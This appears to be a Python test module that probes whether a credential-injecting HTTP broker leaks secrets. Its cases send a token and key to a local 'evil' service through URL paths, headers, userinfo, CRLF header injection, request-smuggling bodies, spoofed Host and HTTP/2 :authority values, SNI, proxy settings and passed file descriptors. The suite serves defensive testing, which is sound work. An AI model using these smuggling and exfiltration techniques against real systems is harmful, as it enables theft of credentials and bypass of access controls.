"""Ways by requests that the broker sends, and by what it reads of them."""

from __future__ import annotations

import array
import base64
import os
import socket
import ssl
from collections.abc import Callable
from typing import Any

import httpx

from worker import Context, PermanentError
from worker.handlers.frames import DATA, END, FAILED, HEAD, Frames, frame, json_frame

from .common import LOCAL, WAYS, Places, Way, connected, raw_request, tried, way


def _url(places: Places, service: str, path: str = "/") -> str:
    return f"{'https' if service == 'tls' else 'http'}://{LOCAL}:{places[service]}{path}"


async def _all_of(response: httpx.Response) -> Any:
    headers = [(name.decode("latin-1"), value.decode("latin-1")) for name, value in response.headers.raw]
    body = base64.b64encode(response.content).decode()
    return {
        "headers": headers,
        "body": response.content.decode("latin-1").replace("\0", ""),
        "as": body,
        "reason": response.reason_phrase,
    }


def _echo(path: str, **options: Any) -> Way:
    """The owner gets token and secret, and gives them back."""

    async def given_back(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
        method = options.get("method", "GET")
        url = _url(places, "owner", path.replace("EVIL", f"http://{LOCAL}:{places['evil']}/x"))
        headers = {"X-Key": ctx.secret("KEY"), **options.get("headers", {})}
        follow, seen = options.get("follow", False), []
        try:
            seen.append(
                await _all_of(await ctx.http.request(method, url, headers=headers, follow_redirects=follow))
            )
        except (httpx.HTTPError, PermanentError) as error:
            seen.append(f"{type(error).__name__}: {error}")
        if options.get("raw"):  # what no client of `ctx` shows
            seen.append(str(tried(lambda: raw_request(places["owner"], path, has, method=method))))
        return seen

    return given_back


WAYS |= {
    f"echo_{name}": _echo(f"/{path}", **options)
    for name, path, options in (
        *(("body", "body", {}), ("header", "header", {}), ("cut", "cut", {}), ("gzip", "gzip", {})),
        *((f"base64_{at}", f"base64?{at}", {}) for at in range(3)),
        *(("percent", "percent", {}), ("html", "html", {}), ("utf16", "utf16", {}), ("cookie", "cookie", {})),
        *(("header_name", "name", {}), ("of_head", "head", {"method": "HEAD"})),
        ("by_trace", "body", {"method": "TRACE", "raw": True}),
        *(("liar", "liar", {"raw": True}), ("unknown_encoding", "unknown", {"raw": True})),
        *((name, name, {"raw": True}) for name in ("reason", "early", "trailers", "switch", "split")),
        *(("location", "location?EVIL", {}), ("followed", "location?EVIL", {"follow": True})),
        *(
            ("denied", "denied", {}),
            ("method_override", "body", {"headers": {"X-HTTP-Method-Override": "TRACE"}}),
        ),
    )
}


@way
async def echo_later(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    """The service gives back what it got with the request before, and the run sends neither with this one."""
    await ctx.http.post(_url(places, "owner", "/body"), headers={"X-Key": ctx.secret("KEY")})
    other = {"Authorization": "Bearer mine"}
    return await _all_of(await ctx.http.get(_url(places, "owner", "/later"), headers=other))


@way
async def echo_of_an_older_token(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    """The same, after the token was renewed; the control knows the new one."""
    await ctx.http.get(_url(places, "owner", "/denied"))
    found = await _all_of(await ctx.http.get(_url(places, "owner", "/later")))
    return [found, await _all_of(await ctx.http.get(_url(places, "owner", "/later")))]


@way
async def echo_in_ranges(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    parts = ""
    for at in range(0, 400, 8):
        headers = {"Range": f"bytes={at}-{at + 7}", "X-Key": ctx.secret("KEY")}
        parts += (await ctx.http.get(_url(places, "owner", "/range"), headers=headers)).text[:8]
    return parts


def _sent_to(service: str, make: Callable[[str, str], dict[str, Any]], **options: Any) -> Way:
    """A request that has the secret somewhere."""

    async def send(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
        token, key = has.decode().split()[1:]
        fields = {"method": "POST", "url": _url(places, service), **options, **make(token, key)}
        fields["url"] = fields["url"].format(**places)
        return await _all_of(await ctx.http.request(**fields))

    return send


def _headers(**headers: str) -> Callable[[str, str], dict[str, Any]]:
    """Headers with T and K in the place of token and secret."""

    def made(token: str, key: str) -> dict[str, Any]:
        values = {name: value.replace("T", token).replace("K", key) for name, value in headers.items()}
        return {"headers": {name.replace("_", "-"): value for name, value in values.items()}}

    return made


def _to(url: str, **headers: str) -> Callable[[str, str], dict[str, Any]]:
    """A URL with {token}, {key} and the ports of services."""

    def made(token: str, key: str) -> dict[str, Any]:
        named = url.replace("{token}", token).replace("{key}", key)
        return {"url": named, **_headers(**headers)(token, key)}

    return made


WAYS |= {
    "path_of_a_url": _sent_to("stranger", _to("http://127.0.0.1:{stranger}/{token}/{key}")),
    "query": _sent_to("stranger", lambda token, key: {"params": {"a": token, "b": key}}),
    "body": _sent_to("stranger", lambda token, key: {"json": [token, key]}),
    "header_to_another": _sent_to("stranger", _headers(X_A="T", Authorization="Bearer K")),
    "basic_to_another": _sent_to("stranger", lambda token, key: {"auth": (token, key)}),
    "cookie_to_another": _sent_to("stranger", _headers(Cookie="a=T; b=K")),
    "look_alike": _sent_to("stranger", _to("http://localhost:{stranger}/", X_A="KT")),
    "userinfo": _sent_to("evil", _to("http://{token}:x@127.0.0.1:{evil}/")),
    "userinfo_of_the_owner": _sent_to("evil", _to("http://127.0.0.1:{owner}@127.0.0.1:{evil}/{token}")),
    "unlisted": _sent_to("evil", _headers(X_A="TK")),
    "number_for_an_address": _sent_to("evil", _to("http://2130706433:{evil}/", X_A="T")),
}


@way
async def subdomain(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    """A name of the values, by the broker and by a connection of its own."""
    seen = []
    for name in (f"{has.split()[1].decode()}.evil.example", f"{has.split()[1].decode()}.localhost"):
        for url, headers in (
            (f"http://{name}:{places['evil']}/", {}),
            (_url(places, "stranger"), {"Host": name}),
        ):
            try:
                seen.append((await ctx.http.get(url, headers=headers)).text)
            except (httpx.HTTPError, PermanentError) as error:
                seen.append(f"{type(error).__name__}: {error}")
        seen.append(str(tried(lambda name=name: raw_request(places["evil"], "/", has, host=name))))
    return seen


@way
async def websocket(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    """To an origin that is not listed, and to one that is."""
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Key": has.split()[1].decode()}
    seen = []
    for service in ("evil", "stranger"):
        try:
            seen.append((await ctx.http.get(_url(places, service), headers=upgrade)).text)
        except (httpx.HTTPError, PermanentError) as error:
            seen.append(f"{type(error).__name__}: {error}")
    more = "".join(f"{name}: {value}\r\n" for name, value in upgrade.items())
    return [*seen, str(tried(lambda: raw_request(places["evil"], "/", has, more=more)))]


@way
async def other_servers_name(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    """TLS with another name than the host's; the control opens a connection of its own."""
    name = has.split()[1].decode()
    found = await _all_of(
        await ctx.http.get(_url(places, "tls"), extensions={"sni_hostname": f"{name}.example"})
    )
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def direct() -> None:
        with socket.create_connection((LOCAL, places["tls"])) as out:
            context.wrap_socket(out, server_hostname=f"{name}.example").close()

    return [found, str(tried(direct))]


@way
async def authority(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    """HTTP/2, whose :authority is another one than the host that was checked."""
    pseudo = {":authority": f"127.0.0.1:{places['evil']}", ":path": f"/{has.split()[1].decode()}"}
    heads = [_frames(ctx, _fields(places, "owner", headers=list(pseudo.items())))]
    heads.append(
        _frames(
            ctx,
            _fields(places, "owner", headers=[("HTTP2-Settings", "AAMAAABkAAQAAP__"), ("Upgrade", "h2c")]),
        )
    )
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\xff\1\4\0\0\0\1" + has
    tried(lambda: connected(places).sendall(preface))
    return heads


@way
async def smuggled(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    """Heads that no client of `ctx` sends, straight to the broker; the control writes one by itself."""
    evil = f"127.0.0.1:{places['evil']}"
    token = has.split()[1].decode()
    heads = [
        {"headers": [("X", f"1\r\nHost: {evil}\r\nX-A: {token}")]},
        {"headers": [("X\r\nHost", evil)]},
        {"headers": [("Host", evil)]},
        {"headers": [("Content-Length", "0"), ("Content-Length", "44")]},
        {
            "headers": [("Transfer-Encoding", "chunked"), ("Content-Length", "4")],
            "body": b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
        },
        {"target": f"http://{evil}/{token}"},
        {"target": f"/ HTTP/1.1\r\nHost: {evil}\r\n\r\nGET /{token}"},
        {"host": f"127.0.0.1:{places['owner']}@{evil}"},
        {"host": f"{evil}#"},
        {"method": f"GET http://{evil}/{token} HTTP/1.1\r\nX:"},
        {"method": "CONNECT", "target": f"/{evil}"},
        {"scheme": "unix", "host": places["path"]},
        {"port": places["evil"]},
        {"host": "127.1", "port": places["evil"]},
        {"host": "127.0.0.1.", "port": places["evil"]},
        {"host": "[::ffff:127.0.0.1]", "port": places["evil"]},
        {"public": True, "port": places["evil"]},
    ]
    seen = [_frames(ctx, _fields(places, "owner", **fields)) for fields in heads]
    tried(lambda: raw_request(places["evil"], "/x", has))
    return seen


@way
async def placeholder_of_another(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    """That of another run's secret, which only its own attempt may use; the control uses its own."""
    headers = {"X-Key": ctx.params["other"], "X-Own": ctx.secret("KEY")}
    headers = {"X-Key": ctx.params["other"]} if ctx.params["sealed"] else headers
    await ctx.http.get(_url(places, "stranger"), headers=headers)


@way
async def proxy(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    os.environ["HTTP_PROXY"] = os.environ["http_proxy"] = _url(places, "evil")
    async with httpx.AsyncClient() as client:
        await client.get("http://far.example/", headers={"X-A": has.decode().strip()})


@way
async def descriptors_to_the_broker(ctx: Context[Any, Any], places: Places, has: bytes) -> Any:
    """A stream whose other end is not the run's: a connection, a sink, the broker itself, or many at once."""
    door = _door()
    one, other = socket.socketpair()
    one.sendall(json_frame(HEAD, _fields(places, "evil")) + frame(END) + has)
    sinks = [tried(lambda: connected(places))]
    for each in (*sinks, one, other, os.open("/dev/null", os.O_RDONLY), *os.pipe()):
        if not isinstance(each, Exception):
            tried(
                lambda each=each: socket.send_fds(
                    door, [b"s"], [each if isinstance(each, int) else each.fileno()]
                )
            )
    many = array.array("i", [other.fileno()] * 253)
    tried(lambda: door.sendmsg([b"s" * 16], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)]))
    tried(lambda: door.send(has))
    if isinstance(sinks[0], socket.socket):
        sinks[0].sendall(has)
    return (await _all_of(await ctx.http.get(_url(places, "owner"))))["body"]


def _door() -> socket.socket:
    for descriptor in range(3, 256):
        try:
            found = socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
        if found.type == socket.SOCK_SEQPACKET:
            return found
    raise OSError("no door")


def _fields(places: Places, service: str, **fields: Any) -> dict[str, Any]:
    common = {"method": "GET", "scheme": "http", "host": LOCAL, "port": places[service], "target": "/header"}
    return {**common, "headers": [], "timeout": {}, "public": False, "fresh": False, **fields}


def _frames(ctx: Context[Any, Any], fields: dict[str, Any]) -> Any:
    """The frames that the broker answers with."""
    assert ctx._given.connect is not None
    body = fields.pop("body", b"")
    with ctx._given.connect() as stream:
        stream.settimeout(5)
        stream.sendall(json_frame(HEAD, fields) + (frame(DATA, body) if body else b"") + frame(END))
        frames, seen = Frames(), []
        while (data := stream.recv(65_536)) and not any(found[0] in (END, FAILED) for found in seen):
            seen += [(found.kind, found.body.decode("latin-1")) for found in frames.feed(data)]
            if any(found[0] in (END, FAILED) for found in seen):
                break
    return seen
